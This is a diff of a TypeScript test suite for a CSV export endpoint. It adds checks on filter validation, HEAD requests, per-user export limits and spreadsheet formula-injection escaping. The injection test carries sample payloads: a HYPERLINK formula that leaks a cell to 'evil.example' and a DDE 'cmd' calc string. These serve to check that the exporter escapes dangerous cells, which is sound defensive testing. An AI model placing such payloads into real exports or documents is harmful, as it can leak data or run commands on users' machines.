@@ -8,6 +8,7 @@ import { sortOrder, type ListSort, type SortColumn } from '../shared/lists/sortK
 import { filterStations, STATION_SORT_COLUMNS, type StationSortKey } from '../shared/lists/stationList.ts';
 import type { IssueSummary, StationListItem } from '../shared/records.ts';
 import { EXPORT_PATHS } from '../shared/endpoints.ts';
+import { STATION_LABELS } from '../shared/stationLabels.ts';
 import { ApiClient, openWallScreen } from './helpers/apiClient.ts';
 import { startTestServer, type TestServer } from './helpers/testServer.ts';
 
@@ -271,6 +272,10 @@ describe('who may export, and what', () => {
   it.each([
     [EXPORT_PATHS.stations, 'filter=9', /^filter: must be one of 0 \(All Statuses\), 1 \(Active Projects\), 2 \(NCR Active\), 3 \(Remaining Payment\), 4 \(Warranty Left\)$/],
     [EXPORT_PATHS.stations, 'filter=', /^filter: must be one of 0 \(All Statuses\)/],
+    [EXPORT_PATHS.stations, 'filter=1e0', /^filter: must be one of 0 \(All Statuses\)/],
+    [EXPORT_PATHS.stations, 'filter=0x1', /^filter: must be one of 0 \(All Statuses\)/],
+    [EXPORT_PATHS.issues, 'filter=2.0', /^filter: must be one of /],
+    [EXPORT_PATHS.issues, 'filter=%202', /^filter: must be one of /],
     [EXPORT_PATHS.stations, 'sort=modif', /^sort: must be one of projId, name, customer, product, reactor$/],
     [EXPORT_PATHS.stations, 'sort=name&dir=up', /^dir: must be 'asc' or 'desc'$/],
     [EXPORT_PATHS.stations, 'q=a&q=b', /^q: must be given once, as text$/],
@@ -327,5 +332,45 @@ describe('a slow client, and one that goes away mid-export', () => {
     await expect.poll(busyConnections, { timeout: 5000 }).toEqual([]);
     const again = await download(jonas, EXPORT_PATHS.stations, 'sort=name');
     expect(again.rows.map((row) => row.SID)).toEqual(whole.rows.map((row) => row.SID));
+  });
+});
+
+describe('what a spreadsheet makes of the cells', () => {
+  it('starts a cell a spreadsheet would run as a formula with an apostrophe, and keeps values such as -10 kV', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")';
+    const { result: sid } = await jonas.call('addStation', { projectId: 'FORMULA-1', stationName: "+cmd|' /C calc'!A0", serials: [] });
+    const { st } = await jonas.call('station', { sid });
+    await jonas.call('updateStation', { sid, modif: st.modif, customer: evil, reactor: '-10 kV', comments: '@SUM(1)' });
+    const { rows } = await download(jonas, EXPORT_PATHS.stations, 'q=FORMULA-1');
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({
+      [STATION_LABELS.name]: "'+cmd|' /C calc'!A0", [STATION_LABELS.customer]: `'${evil}`, [STATION_LABELS.reactor]: '-10 kV', [STATION_LABELS.comments]: "'@SUM(1)",
+    });
+  });
+});
+
+describe('how many exports run at once', () => {
+  it('answers HEAD with the headers alone, after checking who asks and the query', async () => {
+    const head = await fetch(`${server.url}${EXPORT_PATHS.stations}?sort=name`, { method: 'HEAD', headers: { cookie: jonas.cookie } });
+    expect(head.status).toBe(200);
+    expect(head.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(head.headers.get('content-disposition')).toBe(`attachment; filename="stations-${todayDate()}.csv"`);
+    expect(await head.text()).toBe('');
+    expect((await fetch(`${server.url}${EXPORT_PATHS.issues}?filter=9`, { method: 'HEAD', headers: { cookie: jonas.cookie } })).status).toBe(400);
+    expect((await fetch(`${server.url}${EXPORT_PATHS.issues}`, { method: 'HEAD' })).status).toBe(401);
+  });
+
+  it('runs two of one person at once and refuses a third with 429 and Retry-After; one at a time in all on PGlite', async () => {
+    // Sent together, the three reach the server within milliseconds; each export of the 3.7 MB list takes longer.
+    const answers = await Promise.all([1, 2, 3].map(() => jonas.get(EXPORT_PATHS.stations)));
+    const embedded = !server.config.databaseUrl;
+    expect(answers.map((answer) => answer.status).sort()).toEqual(embedded ? [200, 503, 503] : [200, 200, 429]);
+    const refused = answers.find((answer) => answer.status !== 200)!;
+    expect(refused.headers.get('retry-after')).toBe('5');
+    expect(await refused.json()).toEqual({
+      message: embedded ? 'Too many exports are running; try again in a few seconds' : 'You already have 2 exports running; try again when one has finished',
+    });
+    await Promise.all(answers.filter((answer) => answer.status === 200).map((answer) => answer.arrayBuffer()));
+    expect((await jonas.get(EXPORT_PATHS.issues)).status).toBe(200);
   });
 });
